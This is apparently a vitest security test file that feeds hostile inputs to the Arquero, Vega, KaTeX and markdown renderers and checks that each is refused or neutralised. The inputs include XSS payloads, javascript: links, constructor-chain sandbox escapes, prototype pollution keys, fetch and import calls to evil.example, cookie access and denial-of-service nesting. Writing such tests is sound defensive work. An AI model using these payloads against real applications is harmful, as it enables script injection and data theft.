// Attack lists against each expression language and renderer a shared file can reach: Arquero table
// expressions, Vega expressions and specs, KaTeX equations, markdown prose, value lookups and formula
// functions. Each attack is refused, neutralised or rendered as text; none runs code or sets a global.
import * as aq from "arquero";
import { afterAll, describe, expect, it } from "vitest";
import { renderEquation } from "../../src/cells/equation/render";
import { lookupPath } from "../../src/cells/equation/lookup";
import { checkUserSpec, expressionProblem } from "../../src/cells/plot/safe-spec";
import { renderSvg } from "../../src/cells/plot/render-svg";
import { renderText } from "../../src/cells/text/render";
import { checkExpression, ExpressionError } from "../../src/cells/transform/expression";
import { runPipeline } from "../../src/cells/transform/pipeline";
import { validateSteps } from "../../src/cells/transform/steps";
import { expectCleanError, expectNoPollution } from "../fuzz/helpers";
import { dangerInHtml, dangerInSpec, dangerInSvg } from "./danger";

const counts = new Map<string, number>();
const hit = (k: string) => counts.set(k, (counts.get(k) ?? 0) + 1);
afterAll(() => {
  const total = [...counts.values()].reduce((a, b) => a + b, 0);
  console.log(`[hostile] attack cases: ${total} (${[...counts].map(([k, v]) => `${k}=${v}`).join(", ")})`);
});

const PWN = "globalThis.__pwned = 1";

describe("Arquero expressions reaching for globals, constructors and prototypes", () => {
  const table = aq.table({ x: [1, 2, 3], s: ["a", "b", "c"] });
  const attacks = [
    "d => globalThis", "d => window.alert(1)", "d => self", "d => fetch('https://evil.example')", "d => process.exit(1)",
    "d => require('fs')", "d => import('https://evil.example/x.js')", "d => Function('return this')()", "d => eval('1')",
    "d => d.x.constructor", "d => d.s.constructor.constructor('" + PWN + "')()", "d => d['constructor']", "d => d.__proto__",
    "d => d['__proto__']", "d => op.constructor", "d => op['constructor']", "d => op.mean.call(null, d.x)", "d => op.abs.apply",
    "d => [].constructor", "d => ({}).constructor", "d => ''.constructor", "d => `${d.x.constructor}`", "d => this",
    "d => (() => 1)()", "d => (function () { return 1 })()", "d => new Date()", "d => d.x = 1", "d => { return 1 }",
    "d => (0, d.x)", "d => String.raw`x`", "d => d?.x", "d => op.escape(() => 1)", "d => \\u0065val('1')",
    "d => d.x.__defineGetter__('y', 1)", "d => d.x.toString.call", "d => [...d.s]", "d => op.abs(...d.s)", "d => Object.keys(d)",
    "d => Reflect.ownKeys(d)", "d => Symbol.iterator", "d => setTimeout('" + PWN + "')", "async d => 1", "function* (d) { yield 1 }",
    "d => op.random()", "d => $.x", "d => d[op.lower('CONSTRUCTOR')]", "d => d[`constructor`]", "d => d['con' + 'structor']",
    "d => delete d.x", "d => (d.x, globalThis)", "d => /x/.constructor", "d => 1 // constructor", "d => 'constructor'.length",
  ];
  for (const source of attacks) {
    it(`refuses or neutralises ${source}`, () => {
      hit("arquero");
      let refused = false;
      try {
        checkExpression(source, { table });
      } catch (error) {
        expect(error).toBeInstanceOf(ExpressionError);
        expect((error as Error).message.length).toBeGreaterThan(5);
        refused = true;
      }
      if (!refused) {
        // Accepted only if harmless: running it through the pipeline must not touch globals.
        const out = runPipeline({ main: table }, [{ derive: { z: source } }]);
        expect(out.numRows()).toBe(3);
      }
      expectNoPollution();
    });
  }

  it("column names that are prototype names stay plain columns (rename, derive, select)", () => {
    hit("arquero");
    const issues = validateSteps([{ rename: { x: "__proto__" } }, { derive: { constructor: "d => 1" } }], "steps");
    if (issues.length === 0) {
      const out = runPipeline({ main: table }, [{ rename: { x: "__proto__" } }, { derive: { constructor: "d => 1" } }]);
      expect(out.numRows()).toBe(3);
    } else expect(issues[0]!.message.length).toBeGreaterThan(5);
    expectNoPollution();
  });
});

describe("Vega expressions and specs (the known Vega XSS patterns)", () => {
  const exprAttacks = [
    // vega/vega#3018 (filter-expression XSS) and variants
    "datum.constructor.constructor('alert(1)')()", "(0)['constructor']['constructor']('alert(1)')()",
    // vega/vega#3984: event.view.setTimeout through scale()
    "scale('x', event.view.setTimeout('alert(1)'))", "event.view.alert(1)",
    // CVE-2025-59840 / GHSA-7f2v-3qq3-vvjf: VEGA_DEBUG / a View on window
    "VEGA_DEBUG.vega.expressionFunction", "window.VEGA_DEBUG", "this.context.dataflow._el.ownerDocument.defaultView",
    "datum['constr' + 'uctor']", "datum[\"\\x63onstructor\"]", "datum['\\u0063onstructor']", "datum['\\143onstructor']",
    "datum.__proto__", "datum['__proto__']", "[].constructor", "{}.constructor", "''.constructor", "globalThis", "self.alert(1)",
    "top.location", "parent.postMessage('x', '*')", "document.cookie", "fetch('https://evil.example')", "import('x')",
    "setInterval('alert(1)')", "requestAnimationFrame(alert)", "Function('alert(1)')()", "eval('alert(1)')", "Reflect.apply",
    "datum[1 + 1]", "datum[datum.k]", "indata('x', 'y', datum.constructor)", "item.mark.group.context",
  ];
  for (const expr of exprAttacks) {
    it(`refuses the expression ${expr}, or runs it harmlessly`, async () => {
      hit("vega-expr");
      if (expressionProblem(expr)) return;
      // Not refused by the word list: it must be harmless in the CSP-safe interpreter (or refused by Vega).
      try {
        const { svg } = await renderSvg({ data: { values: [{ a: 1 }] }, transform: [{ calculate: expr, as: "b" }], mark: "point" } as never);
        expect(typeof svg).toBe("string");
      } catch (error) {
        expectCleanError(error, expr);
      }
      expectNoPollution();
    });
  }

  const specAttacks: [string, Record<string, unknown>][] = [
    ["data url", { data: { url: "https://evil.example/x.csv" }, mark: "point" }],
    ["href encoding", { data: { values: [{ a: 1 }] }, mark: "point", encoding: { href: { value: "javascript:alert(1)" } } }],
    ["href in mark", { data: { values: [{ a: 1 }] }, mark: { type: "point", href: "https://evil.example" } }],
    ["href in config", { data: { values: [{ a: 1 }] }, mark: "point", config: { mark: { href: "https://evil.example" } } }],
    ["image url", { data: { values: [{ a: 1 }] }, mark: { type: "image", url: "https://evil.example/x.png" } }],
    ["url encoding", { data: { values: [{ a: 1 }] }, mark: "image", encoding: { url: { field: "a" } } }],
    ["lookup url", { data: { values: [{ a: 1 }] }, mark: "point", transform: [{ lookup: "a", from: { data: { url: "https://evil.example" }, key: "a" } }] }],
    ["usermeta", { data: { values: [{ a: 1 }] }, mark: "point", usermeta: { embedOptions: { actions: true } } }],
    ["bind element", { data: { values: [{ a: 1 }] }, mark: "point", params: [{ name: "p", value: 1, bind: { input: "range", element: "#app" } }] }],
    ["proto keys", JSON.parse('{"data":{"values":[{"a":1}]},"mark":"point","__proto__":{"polluted":1},"encoding":{"constructor":{"prototype":{"x":1}}}}')],
    ["datasets proto", JSON.parse('{"datasets":{"__proto__":[{"a":1}]},"data":{"name":"d"},"mark":"point"}')],
  ];
  for (const [name, spec] of specAttacks) {
    it(`cleans the spec: ${name}`, async () => {
      hit("vega-spec");
      const checked = checkUserSpec(spec);
      expectNoPollution();
      if (!checked.ok) {
        expect(checked.errors.length).toBeGreaterThan(0);
        return;
      }
      expect(dangerInSpec(checked.spec)).toEqual([]);
      expect(checked.removed.length, name).toBeGreaterThan(0);
      const { svg } = await renderSvg(checked.spec as never);
      expect(dangerInSvg(svg)).toEqual([]);
    });
  }

  it("the renderer refuses every load, even if a URL slipped past the spec check", async () => {
    hit("vega-spec");
    const { errors } = await renderSvg({ data: { url: "https://evil.example/x.json" }, mark: "point" } as never);
    expect(errors.join(" ")).toMatch(/may not access the network|Loading failed/);
  });

  it("expressions the word list lets through run harmlessly in the interpreter", async () => {
    hit("vega-expr");
    const { svg, errors } = await renderSvg({
      data: { values: [{ a: 1 }, { a: 2 }] },
      transform: [{ calculate: "length(sequence(5))", as: "c" }],
      mark: "point",
      encoding: { x: { field: "c", type: "quantitative" } },
    } as never);
    expect(typeof svg).toBe("string");
    expect(errors.join(" ")).not.toMatch(/pwned/);
    expectNoPollution();
  });
});

describe("KaTeX equations", () => {
  const attacks = [
    "\\href{javascript:alert(1)}{x}", "\\url{javascript:alert(1)}", "\\href{https://evil.example}{x}", "\\includegraphics{https://evil.example/x.png}",
    "\\htmlClass{a\" onclick=\"alert(1)}{x}", "\\htmlId{x\" onmouseover=\"alert(1)}{y}", "\\htmlStyle{background:url(https://evil.example)}{x}",
    "\\htmlData{onclick=alert(1)}{x}", "\\def\\a{\\a\\a}\\a", "\\gdef\\a{x}\\a", "\\edef\\a{x}", "\\let\\x\\href \\x{javascript:alert(1)}{y}",
    "\\newcommand{\\a}{\\a\\a}\\a", "\\renewcommand{\\sqrt}{\\href{javascript:1}{x}}\\sqrt{2}", "\\expandafter\\href", "\\csname href\\endcsname{javascript:1}{x}",
    "\\char`\\\\href", "\\text{<script>alert(1)</script>}", "\\text{<img src=x onerror=alert(1)>}", "\\operatorname{<svg onload=alert(1)>}",
    "\\rule{1000em}{1000em}", "\\color{red;background:url(https://evil.example)}{x}", "\\textcolor{url(https://evil.example)}{x}",
    "x^{".repeat(500) + "1" + "}".repeat(500), "\\left(".repeat(300) + "x" + "\\right)".repeat(300), "\\verb|<script>|", "\\html@mathml{<b>}{x}",
    "\\mathrm{\\href{javascript:alert(1)}{x}}", "\\hre\\f{x}", "\\H{ref}", "{{x.__proto__}}", "{{x.constructor.constructor}}",
  ];
  for (const tex of attacks) {
    it(`neutralises ${tex.slice(0, 60)}`, () => {
      hit("katex");
      const start = performance.now();
      const { html, errors } = renderEquation(tex, { x: { y: 1 } });
      expect(performance.now() - start).toBeLessThan(3000);
      expect(dangerInHtml(html), `${tex}\n${html.slice(0, 300)}`).toEqual([]);
      expect(html).not.toMatch(/href="javascript:|src="/);
      expect(Array.isArray(errors)).toBe(true);
      expectNoPollution();
    });
  }
});

describe("markdown prose and value lookups", () => {
  const attacks = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))", "[x](//evil.example)", "[x](https://user:pw@evil.example)", '[x](https://a.example/" onmouseover="alert(1))', "[x](https://a.example/<script>)",
    "[<img src=x onerror=alert(1)>](https://a.example)", "**<b onclick=alert(1)>x</b>**", "`<script>`", "$\\href{javascript:1}{x}$", "$<script>$",
    "# <h1 onclick=alert(1)>", "- [x](javascript:1)\n- *<i onmouseover=alert(1)>*", "{{x.__proto__.polluted}}", "{{x.constructor.constructor}}", "{{x.y|<script>}}",
    "&lt;script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\u202Eevil", "[x](https://a.example)(javascript:1)", "![img](https://evil.example/x.png)",
    "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=https://evil.example></iframe>", "<style>body{background:url(https://evil.example)}</style>",
    "$".repeat(5000), "*".repeat(10000), "[".repeat(5000) + "x" + "](https://a.example)".repeat(100), "_".repeat(10000) + "x",
  ];
  for (const md of attacks) {
    it(`renders as text: ${md.slice(0, 50)}`, () => {
      hit("markdown");
      const start = performance.now();
      const { html } = renderText(md, { x: { y: 1 } });
      expect(performance.now() - start, md.slice(0, 50)).toBeLessThan(2000);
      expect(dangerInHtml(html), `${md.slice(0, 80)}\n${html.slice(0, 300)}`).toEqual([]);
      expect(html).not.toMatch(/href="(?!https?:)/i);
      expectNoPollution();
    });
  }

  it("lookups follow own data properties only", () => {
    hit("lookup");
    const withGetter = Object.defineProperty({}, "y", { get: () => ((globalThis as Record<string, unknown>).__pwned = 1), enumerable: true });
    for (const [inputs, path] of [[{ x: {} }, "x.__proto__"], [{ x: {} }, "x.constructor"], [{ x: [] }, "x.length"], [{ x: withGetter }, "x.y"], [{ x: { y: 1 } }, "x.toString"]] as const) {
      hit("lookup");
      const r = lookupPath(inputs, path);
      if (path !== "x.length") expect(r.ok, path).toBe(false);
    }
    expectNoPollution();
  });
});
